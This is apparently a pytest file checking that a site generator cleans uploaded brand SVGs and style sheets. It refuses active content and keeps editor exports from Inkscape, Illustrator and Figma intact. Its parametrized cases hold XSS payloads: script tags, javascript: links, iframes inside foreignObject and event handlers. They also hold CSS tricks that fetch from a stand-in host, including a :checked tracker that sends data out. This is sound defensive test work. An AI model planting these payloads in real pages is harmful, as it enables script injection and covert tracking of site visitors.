"""Brand files (issue #23): an SVG is published as the allowlisted, re-serialised drawing,
never its original bytes; a style sheet is checked as a browser decodes and reads it.

Fixtures in tests/fixtures/brand/ are written in the shapes Inkscape, Illustrator and Figma
export: Sodipodi and Inkscape namespaces and RDF metadata; Illustrator's entities, ``i:``
namespace, ``<switch>`` with its editing-data ``<foreignObject>``, ``x="0px"`` and
``enable-background``; Figma's ``<defs>`` with clip paths, filters, a pattern and a PNG.
"""

from __future__ import annotations

import codecs
import re
from pathlib import Path

import pytest

from generator.project_files import UnsafePath, read_asset
from tests.conftest import FIXTURES

BRAND = FIXTURES / "brand"
EXPORTS = ["inkscape.svg", "illustrator.svg", "figma.svg"]
SVG_OPEN = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'


def _read(tmp_path: Path, name: str, data: bytes, field: str = "logo") -> bytes:
    (tmp_path / name).write_bytes(data)
    return read_asset(tmp_path, name, field)


@pytest.mark.parametrize("name", EXPORTS)
def test_drawing_program_exports_are_accepted_without_their_editor_data(tmp_path, name):
    published = _read(tmp_path, "logo.svg", (BRAND / name).read_bytes()).decode("utf-8")
    assert published.startswith('<?xml version="1.0" encoding="UTF-8"?>\n<svg ')
    assert 'xmlns="http://www.w3.org/2000/svg"' in published
    for editor in (
        "inkscape:",
        "sodipodi",
        "rdf:",
        "adobe",
        " i:",
        "<i:",
        " x:",
        "metadata",
        "DOCTYPE",
    ):
        assert editor not in published, editor
    assert "<path" in published or "<rect" in published


def test_the_inkscape_export_keeps_its_drawing_exactly():
    published = read_asset(BRAND, "inkscape.svg", "logo").decode("utf-8")
    assert re.findall(r"<(\w+)", published) == [
        *["svg", "title", "defs", "linearGradient", "stop", "stop", "linearGradient"],
        *["g", "circle", "path", "text", "tspan"],
    ]
    assert 'href="#linearGradient2"' in published  # xlink:href, as SVG 2 writes it
    assert '<title id="title1">Kundresan – logotyp</title>' in published
    assert 'xml:space="preserve"' in published


@pytest.mark.parametrize(
    "svg, message",
    [
        (  # the finding of issue #23: XHTML inside an SVG ran on the site's origin
            f'{SVG_OPEN}<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" '
            'src="javascript:window.__pwned=1"/></foreignObject></svg>',
            "contains a <foreignObject> element",
        ),
        (
            '<svg xmlns="http://www.w3.org/2000/svg"><h:iframe '
            'xmlns:h="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/></svg>',
            "contains the foreign element <iframe>",
        ),
        (f"{SVG_OPEN}<script>alert(1)</script></svg>", "contains a <script> element"),
        (f'{SVG_OPEN}<g><script xmlns="">alert(1)</script></g></svg>', "foreign element <script>"),
        (f'{SVG_OPEN}<rect onclick="alert(1)"/></svg>', "has an event handler ('onclick'"),
        (f'{SVG_OPEN}<a href="javascript:alert(1)"><rect/></a></svg>', "links to 'javascript:"),
        (f'{SVG_OPEN}<a xlink:href=" java\tscript:x"><rect/></a></svg>', "links to 'java"),
        (f'{SVG_OPEN}<image href="https://t.invalid/p.png"/></svg>', "links to 'https://t."),
        (f'{SVG_OPEN}<use href="https://t.invalid/s.svg#a"/></svg>', "links to 'https://t."),
        (f'{SVG_OPEN}<image href="data:image/svg+xml;base64,PHN2Zz4="/></svg>', "links to 'data:"),
        (
            f'{SVG_OPEN}<a href="#x"><animate attributeName="href" to="javascript:alert(1)"/>'
            "</a></svg>",
            "contains a <animate> element",
        ),
        (f'{SVG_OPEN}<set attributeName="href" to="javascript:x"/></svg>', "a <set> element"),
        (f"{SVG_OPEN}<style>@import url(https://t.invalid/x.css);</style></svg>", "uses @import"),
        (
            f"{SVG_OPEN}<style>rect{{fill:url(https://t.invalid/p.svg#g)}}</style></svg>",
            "only #fragments are allowed",
        ),
        (f'{SVG_OPEN}<rect style="fill:u\\72l(//t.invalid/a#b)"/></svg>', "'//t.invalid/a#b'"),
        (f'{SVG_OPEN}<rect fill="url(https://t.invalid/a.svg#b)"/></svg>', "only #fragments"),
        ('<svg onload="alert(1)"/>', "is not an SVG: its root is not <svg> in the SVG namespace"),
        ('<html xmlns="http://www.w3.org/1999/xhtml"><script/></html>', "is not an SVG"),
    ],
)
def test_active_content_is_refused_with_a_hint(tmp_path, svg, message):
    with pytest.raises(UnsafePath) as refused:
        _read(tmp_path, "logo.svg", svg.encode("utf-8"))
    assert message in str(refused.value), str(refused.value)
    assert refused.value.hint.startswith(("export it", "add xmlns"))


def test_a_favicon_svg_is_cleaned_too(tmp_path):
    svg = f'{SVG_OPEN}<metadata><x/></metadata><circle r="4" inkscape:label="x" '
    svg += 'xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape"/></svg>'
    published = _read(tmp_path, "favicon.svg", svg.encode(), field="favicon").decode()
    assert published.endswith('<svg xmlns="http://www.w3.org/2000/svg"><circle r="4" /></svg>\n')


# Style sheets.

ALLOWED_CSS = """@charset "utf-8";
@font-face { font-family: Brand; src: url(fonts/brand.woff2) format("woff2"); }
:root { --md-primary-fg-color: #0b5cad; }
@media (min-width: 60em) { .md-header { background: url("img/bånd.png") no-repeat; } }
.md-typeset a:hover { filter: url(#glow); color: r\\65 d; }
@supports (display: grid) { .x { display: grid } }
"""


@pytest.mark.parametrize("bom", [b"", codecs.BOM_UTF8])
def test_an_allowed_style_sheet_is_published_as_the_utf8_text_that_was_checked(tmp_path, bom):
    published = _read(tmp_path, "brand.css", bom + ALLOWED_CSS.encode("utf-8"), "extra_css")
    assert published == ALLOWED_CSS.encode("utf-8")  # a byte-order mark is dropped


@pytest.mark.parametrize(
    "data, message",
    [
        # A UTF-16 byte-order mark wins in the browser: the check of raw bytes saw nothing.
        ("\ufeff@import url(https://t.invalid/x.css);".encode("utf-16-le"), "is UTF-16"),
        ("\ufeffa{b:c}".encode("utf-16-be"), "is UTF-16"),
        ("@import url(https://t.invalid/x.css);".encode("utf-16-le"), "holds NUL bytes"),
        ("a { content: 'Bånd' }".encode("cp1252"), "is not UTF-8 (byte 0xe5 at 1:16)"),
        (b'@charset "windows-1252"; a{}', 'declares @charset "windows-1252"'),
        (b"@import 'x.css';", "uses @import (at 1:1)"),
        (b"@IMPORT url(x.css);", "uses @import"),
        (b"@\\69mport url(x.css);", "uses @import"),
        (b"@namespace svg url(http://www.w3.org/2000/svg);", "uses @namespace"),
        # A tick, sent out item by item: the tracker of issue #23.
        (b"#c1:checked ~ * { background: url(https://t.invalid/?c1) }", "fetches from another"),
        (b"a { background: u\\72l(https://t.invalid/b.png); }", "'https://t.invalid/b.png'"),
        (b"a { background: url('\\68ttps://t.invalid/d.png'); }", "'https://t.invalid/d.png'"),
        (b"a { background: url(/\\/t.invalid/c.png); }", "'//t.invalid/c.png'"),
        (b"a { background: url(data:image/png;base64,AAAA); }", "'data:image/png;base64,AAAA'"),
        (b"a { background: url(img\\\\x.png); }", "fetches from another"),
        (b'a { background: image-set("https://t.invalid/a.png" 1x); }', "fetches from another"),
        (b'a { --u: "https://t.invalid/"; b: image-set(var(--u) 1x); }', "not written out"),
        (b"a { b: src(var(--u)); }", "not written out"),
        (b"a { &:hover { background: url(//t.invalid/n) } }", "'//t.invalid/n'"),
        (b"a { behavior: url(x.htc) }", "sets 'behavior'"),
        (b"a { *zoom: 1 }", "is not CSS a browser reads the same way"),
    ],
)
def test_a_style_sheet_is_checked_as_the_browser_reads_it(tmp_path, data, message):
    with pytest.raises(UnsafePath) as refused:
        _read(tmp_path, "brand.css", data, "extra_css")
    assert message in str(refused.value), str(refused.value)
    assert "SECURITY.md" in refused.value.hint
